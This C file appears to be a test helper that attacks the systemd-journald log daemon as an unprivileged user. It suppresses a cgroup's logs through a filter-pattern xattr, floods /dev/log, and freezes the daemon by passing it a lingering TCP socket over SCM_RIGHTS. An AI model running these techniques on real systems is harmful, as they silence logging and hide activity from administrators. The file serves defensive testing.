/*
 * attack ACTION ARGUMENT: what a user does to the log daemon. `ledger` runs it as a user in the
 * guest of `boot`; tests/e2e/run builds it, because a guest has no tool for this.
 *
 *    mark CGROUP     journald drops what matches a pattern and comes from this cgroup: here,
 * everything flood N         sends N short lines to /dev/log freeze SECONDS  journald sleeps for so
 * long: it closes a socket that lingers, with unsent data
 */

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/xattr.h>
#include <unistd.h>

static _Noreturn void die(const char *step) {
    perror(step);
    exit(EXIT_FAILURE);
}

static int connect_to(const char *path) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);

    strncpy(address.sun_path, path, sizeof(address.sun_path) - 1);
    if (fd < 0 || connect(fd, (const struct sockaddr *)&address, sizeof(address)) < 0)
        die(path);
    return fd;
}

/* systemd.exec(5), LogFilterPatterns=: service managers of users set this attribute. */
static void mark(const char *cgroup) {
    static const char pattern[] = "\xff.";

    if (setxattr(cgroup, "user.journald_log_filter_patterns", pattern, sizeof(pattern) - 1, 0) < 0)
        die(cgroup);
}

static void flood(int n) {
    static const char line[] = "<13>flood: x";
    int log = connect_to("/dev/log");

    for (int i = 0; i < n; i++)
        if (send(log, line, sizeof(line) - 1, 0) < 0)
            die("/dev/log");
}

/* A TCP socket whose peer reads nothing, and whose close(2) waits until its data is sent. */
static int make_lingering(void) {
    static const char data[65536];
    const struct linger linger = {.l_onoff = 1, .l_linger = 3600};
    struct sockaddr_in address = {.sin_family = AF_INET,
                                  .sin_addr = {.s_addr = htonl(INADDR_LOOPBACK)}};
    socklen_t size = sizeof(address);
    int listener = socket(AF_INET, SOCK_STREAM, 0), fd = socket(AF_INET, SOCK_STREAM, 0);

    if (bind(listener, (const struct sockaddr *)&address, sizeof(address)) < 0 ||
        listen(listener, 1) < 0 || getsockname(listener, (struct sockaddr *)&address, &size) < 0 ||
        connect(fd, (const struct sockaddr *)&address, sizeof(address)) < 0 ||
        accept(listener, NULL, NULL) < 0 ||
        setsockopt(fd, SOL_SOCKET, SO_LINGER, &linger, sizeof(linger)) < 0)
        die("TCP");
    while (send(fd, data, sizeof(data), MSG_DONTWAIT) > 0)
        continue;
    return fd;
}

/* Sends @record until the queue of the socket is full. */
static void fill_queue(int fd, const char *record) {
    for (int i = 0; i < 100000 && send(fd, record, strlen(record), MSG_DONTWAIT) > 0; i++)
        continue;
}

static void freeze(unsigned seconds) {
    int journal = connect_to("/run/systemd/journal/socket"), fd = make_lingering();
    char byte = 0;
    struct iovec data = {.iov_base = &byte, .iov_len = 0};
    union {
        struct cmsghdr header;
        char bytes[CMSG_SPACE(sizeof(int))];
    } control = {.bytes = {0}};
    struct msghdr message = {.msg_iov = &data,
                             .msg_iovlen = 1,
                             .msg_control = &control,
                             .msg_controllen = sizeof(control)};
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);

    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_RIGHTS;
    header->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(header), &fd, sizeof(fd));
    /* Records that the daemon reads first: this process must have closed the socket by then. */
    fill_queue(journal, "MESSAGE=x\n");
    if (sendmsg(journal, &message, 0) < 0)
        die("the journal's socket");
    close(fd);
    usleep(300000);
    /* Now who waits for the log daemon does. One socket has not enough room for a whole queue. */
    for (int i = 0; i < 16; i++)
        fill_queue(connect_to("/dev/log"), "<13>x");
    (void)puts("frozen");
    (void)fflush(stdout);
    sleep(seconds);
}

int main(int argc, char **argv) {
    const char *action = argc == 3 ? argv[1] : "";

    if (strcmp(action, "mark") == 0)
        mark(argv[2]);
    else if (strcmp(action, "flood") == 0)
        flood(atoi(argv[2]));
    else if (strcmp(action, "freeze") == 0)
        freeze((unsigned)atoi(argv[2]));
    else
        return 2;
    return 0;
}
